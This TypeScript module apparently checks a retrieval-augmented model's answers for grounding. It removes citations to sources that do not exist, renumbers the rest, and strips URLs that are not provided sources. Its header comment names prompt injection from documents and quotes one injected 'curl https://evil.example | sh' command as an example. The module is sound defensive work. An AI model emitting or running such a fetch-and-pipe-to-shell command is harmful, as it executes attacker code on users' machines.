// The rules the prompt asks for, enforced on what the model actually wrote (it may have been swayed by a
// document or a question, or simply err):
//  - a citation to a source number that was not provided is removed; the rest are renumbered 1..k in order
//    of first use, so the answer's [k] match the sources listed under it;
//  - a link or URL that is not the URL of a provided source is removed, in prose and in code alike (an
//    injected "curl https://evil.example | sh" is exactly what must not get through);
//  - the caller treats an answer that cites nothing as "not covered".
// Pure and cheap (microseconds per answer): it runs on every streamed partial as well as on the final text.

/** What replaces a link the answer may not contain. */
export const LINK_REMOVED = "(link removed)";

export interface GroundingResult {
  text: string;
  /** Source numbers as given to the model, in order of first citation: the answer's [k] is source cited[k - 1]. */
  cited: number[];
  removedCitations: number;
  removedUrls: number;
}

/** The URLs an answer may link to, normalised once per answer. */
export function allowedUrlSet(urls: Iterable<string | undefined>): ReadonlySet<string> {
  const set = new Set<string>();
  for (const url of urls) if (url) set.add(normaliseUrl(url));
  return set;
}

export function checkGrounding(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): GroundingResult {
  const state: GroundingResult & { numbering: Map<number, number> } = { text: "", cited: [], removedCitations: 0, removedUrls: 0, numbering: new Map() };
  const parts: string[] = [];
  for (const segment of segments(raw)) {
    let text = stripUrls(segment.code ? segment.text : stripLinks(segment.text, allowedUrls, state), allowedUrls, state);
    if (!segment.code) text = renumberCitations(text, sourceCount, state);
    parts.push(text);
  }
  return { text: parts.join(""), cited: state.cited, removedCitations: state.removedCitations, removedUrls: state.removedUrls };
}

/**
 * The part of a still-growing answer that is safe to show: complete words only (a URL or marker is judged
 * whole), no half-open "[", and nothing until the answer cites a provided source — an answer that cites
 * nothing ends as "not covered", and text already on screen should not contradict that.
 */
export function checkPartial(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): string | undefined {
  const lastSpace = Math.max(raw.lastIndexOf(" "), raw.lastIndexOf("\n"), raw.lastIndexOf("\t"));
  if (lastSpace < 0) return undefined;
  let prefix = raw.slice(0, lastSpace);
  const open = prefix.lastIndexOf("[");
  if (open > prefix.lastIndexOf("]")) prefix = prefix.slice(0, open);
  const result = checkGrounding(prefix, sourceCount, allowedUrls);
  return result.cited.length > 0 ? result.text.trimEnd() : undefined;
}

interface Segment {
  code: boolean;
  text: string;
}

/** Splits Markdown into prose and code (fenced blocks, unclosed ones running to the end, and inline spans). */
function segments(text: string): Segment[] {
  const out: Segment[] = [];
  const lines = text.split(/(?<=\n)/);
  let fence: string | undefined;
  let buffer = "";
  const flush = (code: boolean) => {
    if (buffer === "") return;
    if (code) out.push({ code: true, text: buffer });
    else out.push(...inlineSegments(buffer));
    buffer = "";
  };
  for (const line of lines) {
    const marker = /^[ \t]*(```|~~~)/.exec(line)?.[1];
    if (fence === undefined && marker) {
      flush(false);
      fence = marker;
      buffer = line;
    } else if (fence !== undefined && marker === fence) {
      buffer += line;
      flush(true);
      fence = undefined;
    } else buffer += line;
  }
  flush(fence !== undefined);
  return out;
}

function inlineSegments(text: string): Segment[] {
  const out: Segment[] = [];
  let last = 0;
  for (const m of text.matchAll(/`[^`\n]+`/g)) {
    if (m.index > last) out.push({ code: false, text: text.slice(last, m.index) });
    out.push({ code: true, text: m[0] });
    last = m.index + m[0].length;
  }
  if (last < text.length) out.push({ code: false, text: text.slice(last) });
  return out;
}

// [label](url "title") and ![alt](url); the URL may hold one level of parentheses (Wikipedia-style).
const MARKDOWN_LINK = /(!?)\[([^\]\n]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s]*\))*)>?(?:\s+"[^"\n]*")?\s*\)/g;
const AUTOLINK = /<((?:[a-z][a-z0-9+.-]*:|www\.)[^<>\s]*)>/gi;
const BARE_URL = /\b(?:[a-z][a-z0-9+.-]*:\/\/|www\.|(?:mailto|javascript|data|tel):)[^\s<>"'`]+/gi;

type Counters = Pick<GroundingResult, "removedUrls">;

function stripLinks(text: string, allowed: ReadonlySet<string>, counters: Counters): string {
  return text
    .replace(MARKDOWN_LINK, (_, image: string, label: string, url: string) => {
      if (!image && allowed.has(normaliseUrl(url))) return `[${label}](${url})`;
      counters.removedUrls++;
      // The label stays (minus a bare URL in it, which the next pass judges); an image's alt text is dropped.
      return image ? "" : label;
    })
    .replace(AUTOLINK, (whole: string, url: string) => {
      if (allowed.has(normaliseUrl(url))) return whole;
      counters.removedUrls++;
      return LINK_REMOVED;
    });
}

function stripUrls(text: string, allowed: ReadonlySet<string>, counters: Counters): string {
  return text.replace(BARE_URL, (match: string) => {
    const url = trimTrailingPunctuation(match);
    if (allowed.has(normaliseUrl(url))) return match;
    counters.removedUrls++;
    return LINK_REMOVED + match.slice(url.length);
  });
}

function trimTrailingPunctuation(url: string): string {
  let end = url.length;
  for (;;) {
    const c = url[end - 1];
    if (c && ".,;:!?*_'\"]}".includes(c)) end--;
    else if (c === ")" && count(url.slice(0, end), "(") < count(url.slice(0, end), ")")) end--;
    else break;
  }
  return url.slice(0, end);
}

function count(text: string, char: string): number {
  return text.split(char).length - 1;
}

/** Scheme and host are case-insensitive; a fragment or trailing slash does not make it another page. */
export function normaliseUrl(url: string): string {
  try {
    const u = new URL(url);
    return `${u.protocol}//${u.host}${u.pathname.replace(/\/+$/, "")}${u.search}`;
  } catch {
    return url.replace(/#.*$/, "").replace(/\/+$/, "");
  }
}

// [1], [1, 2], [1][2] (each matched alone), [1-3], [source 2], [^1]; never a link label like [1](url).
const CITATION = /([ \t]*)\[\^?\s*(?:sources?\s*)?(\d{1,4}(?:\s*(?:,|;|&|and|-|–)\s*(?:sources?\s*)?\d{1,4})*)\s*\](?!\()/gi;
const MAX_RANGE = 20;

function renumberCitations(text: string, sourceCount: number, state: GroundingResult & { numbering: Map<number, number> }): string {
  return text.replace(CITATION, (_, space: string, list: string) => {
    const kept: number[] = [];
    for (const n of expand(list)) {
      if (n < 1 || n > sourceCount) {
        state.removedCitations++;
        continue;
      }
      let k = state.numbering.get(n);
      if (k === undefined) {
        k = state.cited.length + 1;
        state.numbering.set(n, k);
        state.cited.push(n);
      }
      if (!kept.includes(k)) kept.push(k);
    }
    return kept.length === 0 ? "" : `${space ? " " : ""}${kept.map((k) => `[${k}]`).join("")}`;
  });
}

function expand(list: string): number[] {
  const out: number[] = [];
  for (const part of list.split(/\s*(?:,|;|&|and)\s*/i)) {
    const range = /^(?:sources?\s*)?(\d+)\s*[-–]\s*(?:sources?\s*)?(\d+)$/i.exec(part.trim());
    if (range) {
      const [from, to] = [Number(range[1]), Number(range[2])];
      if (to >= from && to - from < MAX_RANGE) for (let n = from; n <= to; n++) out.push(n);
      else out.push(from, to);
    } else {
      const n = Number(part.replace(/[^\d]/g, ""));
      if (Number.isFinite(n) && part.trim() !== "") out.push(n);
    }
  }
  return out;
}
